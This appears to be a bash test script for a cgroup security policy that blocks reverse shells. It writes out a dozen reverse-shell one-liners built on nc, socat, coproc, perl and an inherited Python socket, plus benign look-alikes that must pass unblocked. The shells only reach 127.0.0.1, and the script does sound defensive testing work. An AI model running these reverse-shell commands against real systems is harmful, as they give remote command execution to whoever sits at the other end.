# SPDX-License-Identifier: GPL-2.0-only
# One program receives, another executes what it is handed, and what that says goes back.
# shellcheck shell=bash disable=SC2016,SC2034,SC2154

python=/usr/bin/python3
cg=$(cgroup free)

# The other end: sends a line, when it is to be greeted a while after that, and says
# what came back.
cat >attacker.py <<'END'
import socket, sys, time
server = socket.create_server(("127.0.0.1", 4335))
print("ready", flush=True)
server.settimeout(int(sys.argv[1]))
data = b""
try:
    c = server.accept()[0]
    c.settimeout(int(sys.argv[1]))
    if sys.argv[4]:
        c.recv(4096)
        time.sleep(2)
    c.sendall(sys.argv[2].encode() + b"\n")
    if sys.argv[3]:
        c.shutdown(socket.SHUT_WR)
    while b"42\n" not in data.replace(b"\r", b"") and (new := c.recv(4096)):
        data += new
except OSError:
    pass
print(data.decode(errors="replace"), flush=True)
END

# hand LINE COMMAND...: in the cgroup; what came back and what was said
patience=40
hand() {
	local attacker pid
	: >attacker.out
	$python attacker.py $patience "$1" "${to_end:-}" "${greeted:-}" >attacker.out 2>&1 &
	attacker=$!
	poll grep -q ready attacker.out
	timeout 120 /opt/csec/bin/cgexec "$cg" "${@:2}" </dev/null >hand.out 2>&1 &
	pid=$!
	wait $attacker
	[ -n "${to_end:-}" ] || kill $pid 2>/dev/null
	wait $pid 2>/dev/null
	echo 1 >"$cg/cgroup.kill" 2>/dev/null
	cat attacker.out hand.out
}
bash_c() { hand "$1" /bin/bash -c "$2"; }

plain='expr 40000 + 242'
among='x=$(expr 40000 + 242); echo $x'
by_xargs='rm -f f; mkfifo f; nc 127.0.0.1 4335 <f | xargs -L1 env >f 2>&1'
by_perl='rm -f f; mkfifo f; nc 127.0.0.1 4335 <f | perl -ne "system \$_" >f'
by_coproc='coproc nc 127.0.0.1 4335
	while read -r l <&${COPROC[0]}; do eval "$l" >&${COPROC[1]} 2>&1; done'
by_socat='socat TCP:127.0.0.1:4335 SYSTEM:'\''while read -r l; do eval "$l"; done'\'
cat >inherited.py <<'END'
import os, socket
s = socket.create_connection(("127.0.0.1", 4335))
os.set_inheritable(s.fileno(), True)
os.execvp("bash", ["bash", "-c", 'cat <&%d | while read -r l; do eval "$l" >&%d 2>&1; done' % ((s.fileno(),) * 2)])
END
by_inherited="$python $dir/inherited.py"

# What is told to a shell by -c is to read more: from the terminal, or from a pipe.
# bash reads it to its end first.
terminal=pty,setsid,ctty,stderr,echo=0
by_system="socat TCP:127.0.0.1:4335 SYSTEM:'. /dev/tty',$terminal"
by_name="socat TCP:127.0.0.1:4335 SYSTEM:'echo; cd /dev; . ./tty',$terminal"
by_only="socat TCP:127.0.0.1:4335 SYSTEM:'exec </dev/null; echo; cd /dev; . ./tty',$terminal"
echo 'exec bash -c "$SOURCE"' >source.sh
by_bash="SOURCE='source /dev/tty' socat TCP:127.0.0.1:4335 SYSTEM:'sh source.sh',$terminal"
by_bash_fd="SOURCE='set -e; . /dev/fd/0' socat TCP:127.0.0.1:4335 SYSTEM:'sh source.sh',$terminal"
relay='rm -f f; mkfifo f; nc 127.0.0.1 4335 <f |'
by_stdin="$relay sh -c '. /dev/stdin' >f 2>&1"
by_self="$relay sh -c '. /proc/self/fd/0' >f 2>&1"
by_third="$relay sh -c '. /dev/fd/3' 3<&0 </dev/null >f 2>&1"
by_hidden="$relay sh -c 'echo; cd /dev/fd; . ./0' >f 2>&1"
by_hidden_third="$relay sh -c 'echo; cd /dev/fd; . ./3' 3<&0 </dev/null >f 2>&1"

# The shell itself says it: no other program is told.
builtin='echo $((40000 + 242))'
each_source() {
	for name in by_system by_stdin by_self by_third; do
		"$@" "$name" "$builtin" "${!name}"
	done
	# Only seen while it waits.
	greeted=1
	for name in by_name by_only by_hidden by_hidden_third; do
		"$@" "$name" "$builtin" "${!name}"
	done
	greeted=
	for name in by_bash by_bash_fd; do
		"$@" "$name" "$builtin"$'\n\x04' "${!name}"
	done
}

each() {
	"$@" 'xargs' "$plain" "$by_xargs"
	"$@" 'perl' "$plain" "$by_perl"
	for name in by_coproc by_socat by_inherited; do
		"$@" "$name, one command" "$plain" "${!name}"
		"$@" "$name, one of several" "$among" "${!name}"
	done
}
works() { contains "without a policy: $1" 40242 bash_c "$2" "$3"; }
each works
each_source works

policy=handed
cg=$(cgroup deny)
govern handed "$cg" <<'END' || fail 'a policy is pushed'
shells: {reverse: deny, bind: deny, connect: deny}
END
patience=15
before=$(counter handed reverse_shell)
is_stopped() {
	lacks "$1: is stopped" 40242 bash_c "$2" "$3"
	at_least "$1: is counted" $((before + 1)) "$(counter handed reverse_shell)"
	before=$(counter handed reverse_shell)
}
each is_stopped
each_source is_stopped

# What looks alike: what came is no command, or what it says goes nowhere.
patience=40
contains 'a client talks over a coproc' 40242 bash_c '220 mail ESMTP' \
	'coproc nc 127.0.0.1 4335; read -r l <&${COPROC[0]}; expr 40000 + 242 >&${COPROC[1]}; sleep 1'
contains 'and greets' 'QUIT-42' bash_c '220 mail ESMTP' \
	'coproc nc 127.0.0.1 4335; read -r l <&${COPROC[0]}; echo QUIT-42 >&${COPROC[1]}; sleep 1'
to_end=1
contains 'a list is worked off' 40242 bash_c 242 \
	'nc 127.0.0.1 4335 </dev/null | xargs -n1 expr 40000 + | cat'
contains 'what came is a script, for a file' 40242 bash_c "$plain" \
	'nc 127.0.0.1 4335 </dev/null | sh >x; cat x'
contains 'for a pipe' 40242 bash_c "$among" 'nc 127.0.0.1 4335 </dev/null | sh | cat'
contains 'by xargs, for a file' 40242 bash_c "$plain" \
	'nc 127.0.0.1 4335 </dev/null | xargs -L1 env >x; cat x'
to_end=
contains 'and reported to whom it came from' 40242 bash_c 242 \
	'rm -f f; mkfifo f; nc 127.0.0.1 4335 <f | xargs -n1 expr 40000 + >f'
# A file that is read first, with a connection; and what nobody hears.
echo 'base=40000' >env.sh
contains 'a file is read first' 40242 bash_c hello \
	"socat TCP:127.0.0.1:4335 SYSTEM:'. ./env.sh && expr \$base + 242',$terminal"
contains 'or nothing' 40242 bash_c hello \
	"socat TCP:127.0.0.1:4335 SYSTEM:'. /dev/null; expr 40000 + 242',$terminal"
to_end=1
contains 'what came is read, for a file' 40242 bash_c "$plain" \
	"nc 127.0.0.1 4335 </dev/null | sh -c '. /dev/stdin' >x; cat x"
to_end=
without() { in_cgroup "$cg" /bin/bash -c "$1" </dev/null; }
contains 'a pipe is read, without a connection' 40242 without \
	"echo '$plain' | sh -c '. /dev/stdin' | cat"
contains 'a terminal' 40242 without \
	"{ echo '$plain'; sleep 5; } | timeout 60 script -qc \"sh -c '. /dev/tty'\" /dev/null | cat"
contains 'a terminal, and nothing' 40242 without \
	"script -qc \"sh -c '. /dev/null; $plain'\" /dev/null | cat"
equals 'and nothing of that is refused' "$before" "$(counter handed reverse_shell)"
accounts
